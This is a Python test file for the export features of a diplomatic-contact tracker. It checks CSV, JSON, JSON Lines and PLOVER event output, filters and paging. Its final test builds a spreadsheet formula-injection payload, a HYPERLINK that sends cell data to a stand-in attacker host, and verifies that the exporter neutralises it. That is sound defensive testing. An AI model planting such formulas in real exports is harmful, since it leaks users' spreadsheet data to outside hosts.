"""Exports read back: CSV, JSON, JSON Lines and PLOVER records hold what the store holds."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from diplowatch.commands import contacts
from diplowatch.export import export, iter_contact_dicts, plover_event
from store.repository import ContactQuery


def test_csv_has_one_row_per_contact_with_joined_fields(seeded) -> None:
    result = seeded.run(contacts.command, ["export", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [int(r["id"]) for r in rows] == sorted(seeded.ids, reverse=True)
    call = next(r for r in rows if r["type"] == "call")
    assert call["participants"] == "Vladimir Putin; Recep Tayyip Erdoğan"
    assert call["states"] == "RUS; TUR"
    assert call["initiator"] == "Vladimir Putin"
    assert call["urls"] == "https://example.org/kremlin/1"
    quoted = next(r for r in rows if r["location"] == "Beijing")
    assert '"<b>strong</b>"' in quoted["evidence"]  # quotes survive the CSV round trip


def test_json_and_jsonl_carry_the_contact_dicts(seeded, tmp_path: Path) -> None:
    out = tmp_path / "contacts.json"
    seeded.run(contacts.command, ["export", "--format", "json", "--out", str(out)])
    as_json = json.loads(out.read_text("utf-8"))
    lines = seeded.run(contacts.command, ["export", "--format", "jsonl"]).output.splitlines()
    as_jsonl = [json.loads(line) for line in lines]
    assert as_json == as_jsonl
    assert {c["id"] for c in as_json} == set(seeded.ids)
    visit = next(c for c in as_json if c["type"] == "visit")
    assert visit["participants"][0]["office"] == "Foreign Minister"
    assert visit["articles"][0]["source"] == "wire"


def test_empty_json_export_is_still_valid_json() -> None:
    out = io.StringIO()
    assert export([], out, "json") == 0
    assert json.loads(out.getvalue()) == []


@pytest.mark.parametrize(
    ("args", "expected_types"),
    [
        (["--type", "call"], {"call"}),
        (["--state", "ind"], {"visit"}),
        (["--actor", "sergey lavrov"], {"meeting"}),
        (["--status", "cancelled"], {"meeting"}),
        (["--source", "wire"], {"meeting", "visit"}),
        (["--since", "2024-03-05", "--until", "2024-03-10"], {"meeting"}),
    ],
)
def test_filters_narrow_the_export(seeded, args: list[str], expected_types: set[str]) -> None:
    lines = seeded.run(contacts.command, ["export", "--format", "jsonl", *args]).output
    found = [json.loads(line) for line in lines.splitlines()]
    assert found and {c["type"] for c in found} == expected_types


def test_plover_records_follow_the_consult_conventions(seeded) -> None:
    result = seeded.run(contacts.command, ["export", "--format", "plover"])
    records = {r["id"]: r for r in map(json.loads, result.stdout.splitlines())}
    # The cancelled meeting is a negated event: PLOVER leaves it out, and the export says so.
    assert len(records) == 3
    assert "1 contact(s) left out of PLOVER: cancelled (a negated event)" in result.stderr
    call = records[f"diplowatch-{seeded.ids[0]}"]
    assert call["event"] == ["CONSULT"] and call["quad_code"] == 1
    assert call["mode"] == ["phone"] and call["date"] == "2024-03-04"
    assert [a["code"] for a in call["source"]] == ["RUS"]  # the caller
    assert [a["code"] for a in call["recipient"]] == ["TUR"]
    assert call["source"][0]["sector"] == "GOV"
    assert call["source"][0]["office"] == "President"
    assert call["source"][0]["actor_text"] == "Vladimir Putin"
    assert call["cite_info"]["url"] == "https://example.org/kremlin/1"
    assert call["event_text"] and call["cameo_code"] == "040"
    meeting = records[f"diplowatch-{seeded.ids[1]}"]
    # No host and no guest: everybody is a source, nobody a recipient.
    assert {a["code"] for a in meeting["source"]} == {"CHN", "RUS"}
    assert meeting["recipient"] == [] and meeting["mode"] == []
    assert meeting["event_loc"] == {"name": "Beijing", "cc3": "CHN"}
    # A planned visit is an intention: AGREE, not CONSULT with a "future" context.
    planned = records[f"diplowatch-{seeded.ids[2]}"]
    assert planned["event"] == ["AGREE"] and "future" not in planned["context"]


def test_organisations_are_igo_actors() -> None:
    contact = {
        "id": 9, "type": "meeting", "status": "occurred", "date": "2024-01-01", "evidence": [],
        "articles": [], "participants": [{"name": "Guterres", "state": "UN", "role": "participant"},
                                         {"name": "Lavrov", "state": "RUS", "role": "participant"}],
    }  # fmt: skip
    record = plover_event(contact)
    assert record["source"][0]["code"] == "IGO" and record["source"][0]["igo"] == "UN"
    assert record["mode"] == ["multilateral"]


def test_paging_reads_every_contact_once(seeded) -> None:
    query = ContactQuery(limit=0)
    ids = [c["id"] for c in iter_contact_dicts(seeded.database.sessions, query, page_size=3)]
    assert ids == sorted(seeded.ids, reverse=True)
    capped = ContactQuery(limit=2)
    assert len(list(iter_contact_dicts(seeded.database.sessions, capped, page_size=1))) == 2


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_look_like_formulas_stay_text(start: str) -> None:
    evil = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    contact = {
        "id": 1, "type": "call", "status": "occurred", "date": "2024-01-01",
        "location": "=1+1", "evidence": [evil], "articles": [{"url": "https://a.example/",
        "source": "@wire"}], "participants": [{"name": "-Foo", "role": "participant"}],
    }  # fmt: skip
    out = io.StringIO()
    export([contact], out, "csv")
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["evidence"] == "'" + evil
    assert row["location"] == "'=1+1" and row["sources"] == "'@wire"
    assert row["participants"] == "'-Foo"
    assert row["id"] == "1" and row["date"] == "2024-01-01"  # ordinary cells are untouched
